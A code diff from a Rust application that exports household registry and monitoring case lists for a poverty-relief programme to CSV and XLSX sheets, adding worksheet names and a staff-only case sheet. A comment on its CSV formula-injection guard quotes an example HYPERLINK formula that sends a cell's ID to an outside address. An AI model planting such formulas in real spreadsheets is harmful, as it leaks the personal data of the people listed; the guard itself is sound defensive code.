@@ -74,6 +74,8 @@ pub fn register_cell(h: &Household, m: &Member, col: Col, place: (&str, &str)) -
 
 /// A sheet to write: header and rows of text.
 pub struct Sheet {
+    /// The worksheet's name (XLSX).
+    pub name: &'static str,
     pub header: Vec<String>,
     pub rows: Vec<Vec<String>>,
 }
@@ -97,6 +99,7 @@ pub fn register_sheet(e: &Exported) -> Sheet {
         }
     }
     Sheet {
+        name: "建档立卡",
         header: Col::ALL.iter().map(|c| c.zh().to_string()).collect(),
         rows,
     }
@@ -146,12 +149,62 @@ pub fn public_sheet(e: &Exported) -> Sheet {
         })
         .collect();
     Sheet {
+        name: "贫困户",
         header: header.iter().map(|s| s.to_string()).collect(),
         rows,
     }
 }
 
 /// CSV in UTF-8 with a BOM (so Excel reads it as UTF-8).
+/// The monitoring desk's case list: one row per case, as the desk shows it (staff only).
+pub fn case_sheet(rows: &[crate::model::monitoring::case::CaseRow]) -> Sheet {
+    use crate::model::codes::Label;
+    use crate::i18n::Locale;
+    let lang = Locale::zh;
+    let date = |d: Option<chrono::NaiveDate>| d.map(|d| d.to_string()).unwrap_or_default();
+    let header = [
+        "案件编号",
+        "户编号",
+        "户主",
+        "行政村",
+        "监测对象类别",
+        "风险类型",
+        "线索来源",
+        "所处环节",
+        "线索日期",
+        "办理期限",
+        "是否超期",
+        "暂不标注日期",
+    ];
+    Sheet {
+        name: "监测对象",
+        header: header.iter().map(|s| s.to_string()).collect(),
+        rows: rows
+            .iter()
+            .map(|r| {
+                vec![
+                    r.id.to_string(),
+                    r.household_id.to_string(),
+                    r.head_name.clone(),
+                    r.village_name.clone(),
+                    r.category.label(lang).to_string(),
+                    r.risks
+                        .iter()
+                        .map(|k| k.label(lang))
+                        .collect::<Vec<_>>()
+                        .join("、"),
+                    r.channel.label(lang).to_string(),
+                    r.stage.label(lang).to_string(),
+                    r.raised_on.to_string(),
+                    date(r.due_on),
+                    if r.overdue { "是" } else { "否" }.to_string(),
+                    date(r.held_on),
+                ]
+            })
+            .collect(),
+    }
+}
+
 /// A CSV cell a spreadsheet will not run: a text starting with `=`, `+`, `-`, `@`, a tab or a
 /// carriage return would be taken as a formula (`=HYPERLINK("http://…?d="&E2, …)` sends the ID
 /// in E2 away), so it gets a leading apostrophe, which Excel and WPS show as plain text. Numbers
@@ -190,11 +243,7 @@ pub fn to_xlsx(sheet: &Sheet, template: bool) -> Result<Vec<u8>, rust_xlsxwriter
     {
         // Rows are written in order: stream them (inline strings, no shared-string table).
         let ws = book.add_worksheet_with_constant_memory()?;
-        ws.set_name(if template {
-            "建档立卡"
-        } else {
-            "贫困户"
-        })?;
+        ws.set_name(sheet.name)?;
         for (c, h) in sheet.header.iter().enumerate() {
             let c = c as u16;
             ws.write_string_with_format(0, c, h, &bold)?;
